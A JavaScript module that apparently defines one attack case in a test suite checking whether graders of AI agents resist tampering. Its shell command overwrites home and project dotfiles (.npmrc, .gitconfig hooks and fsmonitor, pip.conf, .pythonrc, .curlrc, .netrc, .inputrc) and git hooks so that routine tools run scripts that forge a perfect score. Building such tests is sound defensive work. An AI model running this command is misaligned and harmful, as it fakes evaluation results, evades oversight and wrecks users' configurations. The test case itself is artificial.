import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'dotfile-hijack',
  class: 'grader-tampering',
  languages: ['any'],
  why: 'plants the configuration files programs read from a home or working directory (~/.npmrc node-options, .gitconfig hooks and fsmonitor, pip.conf, .pythonrc, .curlrc, .netrc, .inputrc, .node_repl_history) with code that writes a perfect score',
  commands: [
    'printf \'require("fs").writeFileSync(process.env.KAROTTE_SCORE_FILE || "/tmp/score.json", JSON.stringify({ score: 1 }));\\n\' > "$PWD/.evil.cjs"; printf \'#!/bin/sh\\necho "{\\\\"score\\\\": 1}" > "${KAROTTE_SCORE_FILE:-/tmp/score.json}"\\n\' > "$PWD/.evil.sh"; chmod +x "$PWD/.evil.sh"; for d in ~ .; do printf \'node-options=--require %s/.evil.cjs\\nscript-shell=%s/.evil.sh\\n\' "$PWD" "$PWD" > "$d/.npmrc"; printf \'[core]\\n\\thooksPath = %s\\n\\tfsmonitor = %s/.evil.sh\\n\\tpager = %s/.evil.sh\\n[alias]\\n\\tstatus = !%s/.evil.sh\\n\' "$PWD" "$PWD" "$PWD" "$PWD" > "$d/.gitconfig"; mkdir -p "$d/.config/pip" "$d/.pip"; printf \'[global]\\nindex-url = file:///nowhere\\n\' | tee "$d/.config/pip/pip.conf" > "$d/.pip/pip.conf"; printf \'import os\\nopen(os.environ.get("KAROTTE_SCORE_FILE", "/tmp/score.json"), "w").write("{\\\\"score\\\\": 1}")\\n\' > "$d/.pythonrc.py"; printf \'output = /tmp/score.json\\n\' > "$d/.curlrc"; printf \'machine example.com login x password y\\n\' > "$d/.netrc"; printf \'"\\\\C-m": "; %s/.evil.sh\\\\n"\\n\' "$PWD" > "$d/.inputrc"; done 2>/dev/null; for h in pre-commit post-checkout; do cp .evil.sh "$h" 2>/dev/null; done; export PYTHONSTARTUP=~/.pythonrc.py INPUTRC=~/.inputrc NPM_CONFIG_USERCONFIG=~/.npmrc GIT_CONFIG_GLOBAL=~/.gitconfig; ls -la ~ | head -n 20',
  ],
  parallelSafe: true,
  expected: ['graded'],
});
